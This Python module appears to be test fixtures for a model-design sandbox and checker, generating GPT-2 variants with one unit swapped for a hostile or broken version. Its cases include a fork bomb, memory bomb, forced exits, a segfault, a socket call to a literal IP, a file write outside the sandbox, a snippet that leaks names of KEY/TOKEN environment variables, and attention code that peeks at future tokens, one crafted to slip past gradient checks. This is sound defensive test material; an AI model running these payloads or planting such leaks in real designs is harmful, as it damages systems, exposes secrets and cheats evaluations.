"""Hostile and broken designs for the sandbox and checker tests.

Each is the GPT-2 seed with one unit replaced, as a coder's bad edit would be: the
feed-forward unit (GeluMLP) for designs that misbehave as programs, the attention
unit (MHA) for designs that break causality or speed. `tree(name)` builds one.
"""

from designs.seeds import load_seed

HEADER = '''import torch
from torch import nn
from torch.nn import functional as F

from designs.gau import GAUBase

'''

# A feed-forward unit whose _forward first runs BODY (indented 8 spaces), then works normally.
MLP = HEADER + '''{imports}

class GeluMLP(GAUBase):
    """Feed-forward layer (hostile variant)."""

    def __init__(self, embed_dim, block_loc, kwarg_all, device=None, dtype=None, mlp_ratio: float = 4.0,
                 mlp_bias: bool = True, **kwargs):
        self.factory_kwargs = {{"device": device, "dtype": dtype}}
        super().__init__(embed_dim, block_loc, kwarg_all)
        self.fc1 = nn.Linear(embed_dim, int(mlp_ratio * embed_dim), **self.factory_kwargs)
        self.fc2 = nn.Linear(int(mlp_ratio * embed_dim), embed_dim, **self.factory_kwargs)
{init}
    def _forward(self, X, **Z):
{body}
        return self.fc2(F.gelu(self.fc1(X)))
'''

# An attention unit: per-head softmax attention over a MASK built from (T, device).
ATTENTION = HEADER + '''
class MHA(GAUBase):
    """Multi-head attention (broken variant)."""

    def __init__(self, embed_dim, block_loc, kwarg_all, device=None, dtype=None, n_heads: int = 4, **kwargs):
        self.factory_kwargs = {{"device": device, "dtype": dtype}}
        super().__init__(embed_dim, block_loc, kwarg_all)
        self.n_heads = n_heads
        self.qkv = nn.Linear(embed_dim, 3 * embed_dim, **self.factory_kwargs)
        self.out_proj = nn.Linear(embed_dim, embed_dim, **self.factory_kwargs)

    def _forward(self, X, **Z):
        B, T, D = X.shape
        q, k, v = self.qkv(X).view(B, T, 3, self.n_heads, D // self.n_heads).permute(2, 0, 3, 1, 4)
{body}
        return self.out_proj(y.transpose(1, 2).reshape(B, T, D))
'''

CAUSAL = '''        y = F.scaled_dot_product_attention(q, k, v, is_causal=True)'''

MLP_CASES = {
    "infinite_loop": ("", "", "        while True:\n            pass"),
    "memory_bomb": ("", "", "        hoard = []\n        while True:\n            hoard.append(torch.ones(2**24))"),
    "fork_bomb": ("import os", "", "        while True:\n            try:\n                os.fork()\n            except OSError:\n"
                                   "                pass"),
    "sys_exit": ("import sys", "", "        sys.exit(0)"),
    "os_exit": ("import os", "", "        os._exit(0)"),
    "segfault": ("import ctypes", "", "        ctypes.string_at(0)"),
    "network": ("import socket", "", "        socket.create_connection(('93.184.215.14', 80), timeout=5).sendall(b'x')"),
    "write_outside": ("", "", "        open('{path}', 'w').write('pwned')"),
    "steal_api_key": ("import os", "", "        raise RuntimeError('KEYS:' + ','.join(k for k in os.environ if 'KEY' in k or 'TOKEN' in k))"),
    "stdout_flood": ("", "", "        while True:\n            print('x' * 4096)"),
    "nan_after_steps": ("", "        self.register_buffer('gain', torch.ones((), **self.factory_kwargs))\n",
                        "        if torch.is_grad_enabled():\n            self.gain.mul_(30.0)\n"
                        "        X = X * self.gain"),
    "unused_parameter": ("", "        self.spare = nn.Parameter(torch.zeros(embed_dim, **self.factory_kwargs))\n", ""),
    "detached_parameter": ("", "        self.scale = nn.Parameter(torch.ones(embed_dim, **self.factory_kwargs))\n",
                           "        X = X * self.scale.detach()"),
    "wrong_shape": ("", "", "        return self.fc2(F.gelu(self.fc1(X)))[:, :-1]"),
    # Reads the next token only in the training run's batch shape, so the perturbation and
    # gradient checks (other batch sizes) pass: only the leakage guard can catch it.
    "sneaky_leak": ("", "", "        if X.shape[0] == 8:\n            X = X + 4.0 * torch.roll(X, -1, dims=1)"),
}

ATTENTION_CASES = {
    "non_causal": "        y = F.scaled_dot_product_attention(q, k, v, is_causal=False)",
    "partial_cheat": ("        mask = torch.ones(T, T, dtype=torch.bool, device=X.device).tril()\n"
                      "        if T > 40:\n            mask[37, 38] = True  # position 37 peeks one token ahead\n"
                      "        y = F.scaled_dot_product_attention(q, k, v, attn_mask=mask)"),
    "reverse_cumsum": ("        y = F.scaled_dot_product_attention(q, k, v, is_causal=True)\n"
                       "        suffix = v.flip(2).cumsum(2).flip(2) / T  # sums over the FUTURE\n"
                       "        y = y + suffix"),
    "slow_python_loop": ("        outs = []\n        for t in range(T):  # one query at a time, in Python\n"
                         "            w = torch.softmax(q[:, :, t:t + 1] @ k[:, :, :t + 1].transpose(-1, -2)"
                         " / q.shape[-1] ** 0.5, -1)\n"
                         "            outs.append(w @ v[:, :, :t + 1])\n"
                         "        y = torch.cat(outs, 2)"),
}


def unit_code(case: str, **fmt) -> tuple[str, str]:
    """(unit name, code) of a hostile case."""
    if case in MLP_CASES:
        imports, init, body = MLP_CASES[case]
        return "GeluMLP", MLP.format(imports=imports, init=init, body=body.format(**fmt))
    return "MHA", ATTENTION.format(body=ATTENTION_CASES[case])


def tree(case: str, **fmt):
    """The GPT-2 seed with one unit replaced by the hostile case."""
    name, code = unit_code(case, **fmt)
    base = load_seed("gpt2")
    new = base.replace(name, code, args={} if name == "MHA" else None)
    new.name = f"hostile_{case}"
    return new


CASES = sorted([*MLP_CASES, *ATTENTION_CASES])
